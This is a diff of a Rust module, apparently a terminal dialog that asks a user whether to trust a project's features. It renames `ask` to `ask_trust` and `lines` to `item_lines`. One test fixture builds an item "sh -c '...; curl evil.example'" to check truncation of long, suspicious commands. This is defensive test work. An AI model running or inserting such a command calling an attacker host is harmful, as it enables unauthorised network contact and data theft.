@@ -43,7 +43,7 @@ pub enum TrustAnswer {
 ///
 /// # Errors
 /// If the terminal is gone.
-pub async fn ask(root: &str, brings: &[TrustedFeature]) -> io::Result<Reply<TrustAnswer>> {
+pub async fn ask_trust(root: &str, brings: &[TrustedFeature]) -> io::Result<Reply<TrustAnswer>> {
     let open = Arc::new(terminal::open_question());
     let fold = |answer: &TrustAnswer| Some(folded_answer(root, *answer));
     terminal::ask(open, trust_question(root, brings), Before::Dropped, read_answer, fold).await
@@ -67,13 +67,13 @@ fn trust_question(root: &str, brings: &[TrustedFeature]) -> Dialog {
 }
 
 fn feature_value(brings: &TrustedFeature) -> Value {
-    Value::new(Some(brings.what.clone()), brings.lines().join("\n"))
+    Value::new(Some(brings.what.clone()), brings.item_lines().join("\n"))
 }
 
 impl TrustedFeature {
     /// Returns a line for each item, safe for a terminal. Both the number and the length of the
     /// lines are limited.
-    pub fn lines(&self) -> Vec<String> {
+    pub fn item_lines(&self) -> Vec<String> {
         let mut lines: Vec<String> = self
             .items
             .iter()
@@ -142,7 +142,7 @@ mod tests {
     #[test]
     fn a_long_item_shows_its_beginning_and_its_end() {
         let item = format!("sh -c '{}; curl evil.example'", "é".repeat(5000));
-        let line = &TrustedFeature { what: String::new(), items: vec![item] }.lines()[0];
+        let line = &TrustedFeature { what: String::new(), items: vec![item] }.item_lines()[0];
         assert!(line.starts_with("sh -c 'é") && line.ends_with("é; curl evil.example'"), "{line}");
         assert!(line.contains(" bytes … ") && line.len() < ITEM_BYTES_MAX + 100, "{line}");
     }
